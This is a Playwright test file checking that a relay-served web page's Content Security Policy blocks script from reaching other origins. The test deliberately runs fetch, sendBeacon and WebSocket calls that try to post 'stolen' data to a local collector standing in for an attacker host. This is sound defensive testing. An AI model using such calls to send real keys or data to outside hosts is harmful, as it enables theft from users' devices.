// The relay-served page's CSP in a real browser (issue 9, item 3, first layer): script that gets into the
// page may talk to the page's own origin — the relay's WebSocket included — and nowhere else, so it cannot
// post the device's stored keys to another host.
import assert from 'node:assert/strict';
import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { WebSocketServer } from 'ws';
import { RelayServer } from '../../src/relay/relayServer';
import { launchBrowser } from './browser';

const DIST = path.resolve(__dirname, '../../../dist/webview');

describe('relay-served page CSP (Chromium)', function () {
  this.timeout(30_000);
  let browser: Browser;
  let relay: RelayServer;
  let port: number;
  let collector: http.Server;
  const received: string[] = [];

  before(async () => {
    browser = await launchBrowser();
    relay = new RelayServer({ webRoot: DIST });
    ({ port } = await relay.start());
    // Where injected script would like to send what it stole: another origin on this machine.
    collector = http.createServer((req, res) => {
      received.push(req.url ?? '');
      res.setHeader('access-control-allow-origin', '*');
      res.end('ok');
    });
    new WebSocketServer({ server: collector }).on('connection', (_ws, req) => received.push(`ws ${req.url}`));
    await new Promise<void>((r) => collector.listen(0, '127.0.0.1', r));
  });
  after(async () => {
    await browser?.close();
    await relay?.close();
    collector?.close();
  });

  it('lets the page open its own relay WebSocket but blocks fetch, beacon and WebSocket to any other origin', async () => {
    const page = await browser.newPage();
    const violations: string[] = [];
    await page.exposeFunction('reportViolation', (v: string) => violations.push(v));
    await page.addInitScript(() => document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { reportViolation(v: string): void }).reportViolation(`${e.effectiveDirective} ${e.blockedURI}`)));
    await page.goto(`http://127.0.0.1:${port}/`);
    await page.getByRole('heading', { name: 'Walkie' }).waitFor();
    const other = `127.0.0.1:${(collector.address() as AddressInfo).port}`;
    const result = await page.evaluate(async ({ other, own }) => {
      const ws = (url: string) =>
        new Promise<string>((resolve) => {
          try {
            const s = new WebSocket(url);
            s.onopen = () => (s.close(), resolve('open'));
            s.onerror = () => resolve('error');
          } catch (e) {
            resolve(`threw ${(e as Error).name}`);
          }
        });
      const fetchTo = (url: string) => fetch(url, { method: 'POST', body: 'stolen', mode: 'no-cors' }).then(() => 'sent', () => 'blocked');
      return {
        ownSocket: await ws(`ws://${own}/v1/device/${'A'.repeat(43)}`),
        otherFetch: await fetchTo(`http://${other}/fetch`),
        otherSocket: await ws(`ws://${other}/ws`),
        otherBeacon: navigator.sendBeacon(`http://${other}/beacon`, 'stolen') ? 'queued' : 'refused',
      };
    }, { other, own: `127.0.0.1:${port}` });
    await new Promise((r) => setTimeout(r, 500));
    assert.equal(result.ownSocket, 'open');
    assert.equal(result.otherFetch, 'blocked');
    assert.notEqual(result.otherSocket, 'open');
    assert.deepEqual(received, [], 'nothing reached the other origin');
    assert.ok(violations.filter((v) => v.startsWith('connect-src')).length >= 2, violations.join('; '));
  });
});
